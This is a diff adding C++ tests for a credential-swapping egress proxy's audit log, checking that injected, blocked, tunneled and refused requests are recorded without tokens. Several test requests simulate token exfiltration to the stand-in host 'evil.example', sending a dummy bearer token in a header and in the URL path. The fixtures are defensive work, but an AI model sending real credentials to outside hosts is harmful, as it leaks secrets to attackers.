@@ -14,6 +14,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <boost/json.hpp>
 #include <chrono>
 #include <cstdlib>
@@ -30,6 +31,7 @@
 #include "../unit/temp_dir.hpp"
 #include "bottle/core/base64url.hpp"
 #include "bottle/core/subprocess.hpp"
+#include "bottle/egress/egress_audit.hpp"
 #include "bottle/egress/egress_config.hpp"
 #include "net_harness.hpp"
 #include "test_paths.hpp"
@@ -54,8 +56,14 @@ struct Reply {
 class Egress {
  public:
   // `bottle_dummies`: all the bottle's dummies, as credential forwarding renders them.
-  explicit Egress(const std::vector<bottle::EgressRoute>& routes, const std::vector<std::string>& bottle_dummies = {}) {
+  // `audit_max_bytes`: write the audit log settings bottle writes at start (egress_audit.hpp).
+  explicit Egress(const std::vector<bottle::EgressRoute>& routes, const std::vector<std::string>& bottle_dummies = {},
+                  std::optional<std::uint64_t> audit_max_bytes = std::nullopt) {
     const fs::path& d = dir_.path();
+    if (audit_max_bytes) {
+      fs::create_directories(d / "conf");
+      write_file(d / "conf" / "audit.json", bottle::render_egress_audit_config("audited", *audit_max_bytes));
+    }
     make_certs(d);
     net_.emplace(std::vector<std::string>{"python3", fake_net_script(), "serve", (d / "server.pem").string(),
                                           (d / "server.key").string(), (d / "ports.json").string(),
@@ -85,6 +93,7 @@ class Egress {
 
   fs::path path(const std::string& name) const { return dir_.path() / name; }
   fs::path egress_log() const { return path("egress.log"); }
+  fs::path audit_log() const { return path("conf/audit.jsonl"); }
   fs::path upstream_log() const { return path("upstream.log"); }
   fs::path ca() const { return path("conf/mitmproxy-ca-cert.pem"); }
   std::uint16_t port() const { return port_; }
@@ -465,4 +474,134 @@ TEST_CASE("egress addon: every dummy of a bottle is guarded, not only the access
       log,
       R"("action": "403", "event": "blocked", "host": "evil.example", "reason": "dummy sent to unbound host", "route": "codex-chatgpt"})"));
   for (const auto& d : {id_dummy, refresh_dummy, codex_dummy}) CHECK_FALSE(contains(log, d));
+}
+
+namespace {
+
+// The records of an audit log text; every line must be one.
+std::vector<bottle::AuditRecord> audit_records(const std::string& text) {
+  const auto lines = bottle::parse_audit_lines(text, "audit.jsonl");
+  CHECK(lines.warnings.empty());
+  return lines.records;
+}
+
+const bottle::AuditRecord* record_for(const std::vector<bottle::AuditRecord>& records, const std::string& path) {
+  for (const auto& r : records)
+    if (r.path == path) return &r;
+  return nullptr;
+}
+
+}  // namespace
+
+TEST_CASE("egress addon: the audit log records injected, blocked and tunneled requests, no token", "[egress][audit]") {
+  TempDir host;
+  const auto codex_file = host.path() / "auth.json";
+  write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
+  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")}, {},
+                std::uint64_t{1} << 20);
+  const std::string bearer = "Authorization: Bearer " + codex_dummy;
+  CHECK(egress.curl("https://chatgpt.com/models?key=" + codex_dummy, {"-H", bearer}).status == 200);
+  CHECK(egress.fetch("chatgpt.com", "/reflect/plain", "Authorization", "Bearer " + codex_dummy).status == 200);
+  CHECK(egress.curl("https://evil.example/leak-header?q=1", {"-H", bearer}).status == 403);
+  CHECK(egress.curl("https://evil.example/leak/" + codex_dummy + "/x").status == 403);
+  CHECK(egress.curl("https://evil.example/fine#frag", {"--data", "twelve bytes"}).status == 200);
+
+  // A record is written when egress has finished with the flow, which can be just after curl has its answer.
+  const auto lines = [&] {
+    const std::string t = read_file(egress.audit_log());
+    return std::count(t.begin(), t.end(), '\n');
+  };
+  CHECK(wait_until([&] { return lines() >= 5; }, 20s));
+  const std::string text = read_file(egress.audit_log());
+  // Never a token, dummy or real, in any encoding; never a header value.
+  CHECK_FALSE(contains(text, codex_dummy));
+  CHECK_FALSE(holds_real(text));
+  CHECK_FALSE(contains(text, "Bearer"));
+  const auto records = audit_records(text);
+  CHECK(records.size() == 5);
+  const auto* injected = record_for(records, "/models");  // the query string is gone
+  REQUIRE(injected);
+  CHECK(injected->action == "injected");
+  CHECK(injected->route == "codex");
+  CHECK(injected->reason == "credential swapped");
+  CHECK(injected->bottle == "audited");
+  CHECK(injected->method == "GET");
+  CHECK(injected->host == "chatgpt.com");
+  CHECK(injected->port == 443);
+  CHECK(injected->status == 200);
+  const auto* reflected = record_for(records, "/reflect/plain");
+  REQUIRE(reflected);
+  CHECK(reflected->action == "injected");
+  CHECK(reflected->bytes_down > 0);  // counted as the scrubbed body streamed
+  const auto* header_leak = record_for(records, "/leak-header");
+  REQUIRE(header_leak);
+  CHECK(header_leak->action == "blocked");
+  CHECK(header_leak->status == 403);
+  CHECK(header_leak->reason == "dummy sent to unbound host");
+  CHECK(header_leak->host == "evil.example");
+  const auto* path_leak = record_for(records, "/leak/[redacted]/x");  // a dummy in the path is redacted
+  REQUIRE(path_leak);
+  CHECK(path_leak->action == "blocked");
+  const auto* fine = record_for(records, "/fine");
+  REQUIRE(fine);
+  CHECK(fine->action == "tunneled");
+  CHECK(fine->method == "POST");
+  CHECK(fine->bytes_up == 12);
+  CHECK(fine->bytes_down > 0);
+  CHECK(fine->status == 200);
+  CHECK((fs::status(egress.audit_log()).permissions() & fs::perms::all) ==
+        (fs::perms::owner_read | fs::perms::owner_write));
+}
+
+TEST_CASE("egress addon: the audit log rotates by size and keeps whole records", "[egress][audit]") {
+  TempDir host;
+  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, host.path() / "absent")}, {}, 4096);
+  for (int i = 0; i < 20; ++i) CHECK(egress.curl("https://evil.example/r" + std::to_string(i)).status == 200);
+  // The last record is written when egress has finished with the flow, maybe just after curl returned.
+  CHECK(wait_until([&] { return contains(read_file(egress.audit_log()), R"("path":"/r19")"); }, 20s));
+  const fs::path rotated = egress.audit_log().string() + ".1";
+  REQUIRE(fs::exists(rotated));
+  // Both files together stay within the limit; the newest records are kept.
+  CHECK(fs::file_size(egress.audit_log()) <= 2048);
+  CHECK(fs::file_size(rotated) <= 2048);
+  const auto current = audit_records(read_file(egress.audit_log()));
+  const auto older = audit_records(read_file(rotated));
+  REQUIRE_FALSE(current.empty());
+  REQUIRE_FALSE(older.empty());
+  CHECK(current.back().path == "/r19");
+  CHECK(older.back().path == "/r" + std::to_string(19 - static_cast<int>(current.size())));
+}
+
+TEST_CASE("egress addon: a connection egress refuses is audited as refused", "[egress][audit]") {
+  // No parent proxy: egress itself refuses non-public addresses (here, loopback).
+  TempDir dir;
+  const fs::path& d = dir.path();
+  fs::create_directories(d / "conf");
+  write_file(d / "conf" / "audit.json", bottle::render_egress_audit_config("audited", std::uint64_t{1} << 20));
+  write_file(d / "routes.json", bottle::render_egress_routes({}, std::vector<std::string>{}));
+  const auto port = free_port();
+  Daemon mitm(bottle::mitmdump_argv(
+                  {.listen_host = "127.0.0.1",
+                   .listen_port = port,
+                   .confdir = (d / "conf").string(),
+                   .addon_path = std::string(test_paths::source_dir) + "/libbottle/share/egress/bottle_egress.py",
+                   .routes_path = (d / "routes.json").string(),
+                   .upstream_proxy = std::nullopt,
+                   .upstream_trusted_ca = std::nullopt}),
+              d / "egress.log");
+  REQUIRE(wait_until([&] { return !mitm.running() || port_open(port); }, 30s));
+  const auto target = free_port();  // nothing listens there; egress must not even try
+  const auto r =
+      run({"curl", "-sS", "--max-time", "20", "--noproxy", "", "--proxy", "http://127.0.0.1:" + std::to_string(port),
+           "-o", "/dev/null", "-w", "%{http_code}", "http://127.0.0.1:" + std::to_string(target) + "/private?x=1"});
+  CHECK(r.out == "502");
+  CHECK(wait_until([&] { return contains(read_file(d / "conf" / "audit.jsonl"), "refused"); }, 20s));
+  const auto records = audit_records(read_file(d / "conf" / "audit.jsonl"));
+  REQUIRE(records.size() == 1);
+  CHECK(records[0].action == "refused");
+  CHECK(records[0].reason == "not a public address");
+  CHECK(records[0].status == 0);
+  CHECK(records[0].host == "127.0.0.1");
+  CHECK(records[0].port == target);
+  CHECK(records[0].path == "/private");
 }
